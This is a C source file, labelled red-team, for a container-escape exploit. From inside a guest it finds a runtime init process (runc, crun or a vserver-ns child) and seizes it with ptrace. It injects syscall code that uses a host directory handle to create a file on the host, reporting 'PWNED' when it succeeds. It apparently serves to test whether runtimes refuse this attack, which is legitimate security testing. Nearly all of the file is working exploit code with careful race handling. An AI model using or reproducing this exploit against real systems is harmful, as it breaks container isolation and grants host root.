/* Red-team: from inside a guest, wait for the runtime's init that every exec sends into the guest
 * (runc's runc:[2:INIT]; crun's own forked child, named crun until it execs; vserver-ns's attached
 * child, named vserver-ns until it execs), attach to it with ptrace and make it run open_by_handle_at on a host directory's
 * handle and create a file there: host root. Prints one verdict line:
 *   PWNED <pid>            the file was created on the host
 *   REFUSED <pid> <errno>  the runtime's init was seen and ptrace was refused
 *   FAILED <step> <value>  attached, but a step of the injection failed
 *   UNSEEN                 no runtime init appeared within the time given
 * usage: ptrace_exec SECONDS HANDLE_BYTES HANDLE_TYPE HANDLE_HEX NAME */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int is_runtime_init(const char *pid) {
    char path[300], comm[64] = {0};
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t n = read(fd, comm, sizeof comm - 1);
    close(fd);
    return n > 0 && (strncmp(comm, "runc:[2:INIT]", 13) == 0 || strcmp(comm, "crun\n") == 0 || strcmp(comm, "vserver-ns\n") == 0);
}

static void poke(pid_t pid, unsigned long addr, const void *data, size_t len) {
    for (size_t i = 0; i < len; i += sizeof(long)) {
        long word = 0;
        memcpy(&word, (const char *)data + i, len - i < sizeof(long) ? len - i : sizeof(long));
        ptrace(PTRACE_POKEDATA, pid, addr + i, word);
    }
}

static long inject(pid_t pid, struct user_regs_struct *base, long nr, long a1, long a2, long a3, long a4) {
    struct user_regs_struct r = *base;
    r.rax = nr; r.orig_rax = -1; r.rdi = a1; r.rsi = a2; r.rdx = a3; r.r10 = a4;
    if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0) return -10000;
    if (ptrace(PTRACE_CONT, pid, 0, 0) < 0) return -10001;
    int st;
    for (;;) {
        if (waitpid(pid, &st, __WALL) < 0) return -10002;
        if (!WIFSTOPPED(st)) return -10003;
        if (WSTOPSIG(st) == SIGTRAP) break;
        ptrace(PTRACE_CONT, pid, 0, 0); /* not ours: let it go on to the trap */
    }
    ptrace(PTRACE_GETREGS, pid, 0, &r);
    return (long)r.rax;
}

int main(int argc, char **argv) {
    if (argc != 6) { fprintf(stderr, "usage\n"); return 64; }
    int seconds = atoi(argv[1]);
    unsigned bytes = (unsigned)atoi(argv[2]);
    int type = atoi(argv[3]);
    unsigned char handle[8 + 128] = {0};
    memcpy(handle, &bytes, 4);
    memcpy(handle + 4, &type, 4);
    for (unsigned i = 0; i < bytes && i < 128; i++) sscanf(argv[4] + 2 * i, "%2hhx", &handle[8 + i]);
    const char *name = argv[5];
    time_t end = time(NULL) + seconds;
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9' || !is_runtime_init(e->d_name)) continue;
            pid_t pid = atoi(e->d_name);
            /* seize and interrupt, not attach: an attach sends a SIGSTOP, which, when the target
             * exec's before it is reported, stays pending past the detach below and leaves the
             * guest's command stopped for good */
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
                if (errno == ESRCH) continue;
                printf("REFUSED %d %d\n", pid, errno);
                return 2;
            }
            if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0) { ptrace(PTRACE_DETACH, pid, 0, 0); continue; }
            int st;
            if (waitpid(pid, &st, __WALL) < 0) { printf("FAILED wait %d\n", errno); return 3; }
            /* stopped now: if it exec'd the guest's command between the look and the attach, it is the
             * guest's own process (which its root may trace), not the runtime's: let it go, look on */
            if (!is_runtime_init(e->d_name)) { ptrace(PTRACE_DETACH, pid, 0, 0); continue; }
            struct user_regs_struct saved;
            ptrace(PTRACE_GETREGS, pid, 0, &saved);
            unsigned long code = saved.rip;
            long orig = ptrace(PTRACE_PEEKTEXT, pid, code, 0);
            long patched = (orig & ~0xffffffL) | 0xcc050fL; /* syscall; int3 */
            ptrace(PTRACE_POKETEXT, pid, code, patched);
            unsigned long data = (saved.rsp - 8192) & ~0xfUL;
            poke(pid, data, "/\0\0\0\0\0\0\0", 8);
            poke(pid, data + 64, handle, sizeof handle);
            poke(pid, data + 256, name, strlen(name) + 1);
            long fd = inject(pid, &saved, SYS_open, data, O_RDONLY | O_DIRECTORY, 0, 0);
            long hfd = fd < 0 ? fd : inject(pid, &saved, SYS_open_by_handle_at, fd, data + 64, O_RDONLY | O_DIRECTORY, 0);
            long f = hfd < 0 ? hfd : inject(pid, &saved, SYS_openat, hfd, data + 256, O_CREAT | O_WRONLY, 0644);
            ptrace(PTRACE_POKETEXT, pid, code, orig);
            ptrace(PTRACE_SETREGS, pid, 0, &saved);
            ptrace(PTRACE_DETACH, pid, 0, 0);
            if (fd < 0) printf("FAILED open %ld\n", fd);
            else if (hfd < 0) printf("FAILED open_by_handle_at %ld\n", hfd);
            else if (f < 0) printf("FAILED openat %ld\n", f);
            else printf("PWNED %d\n", pid);
            return f < 0 ? 3 : 0;
        }
        if (d) closedir(d);
    }
    printf("UNSEEN\n");
    return 1;
}
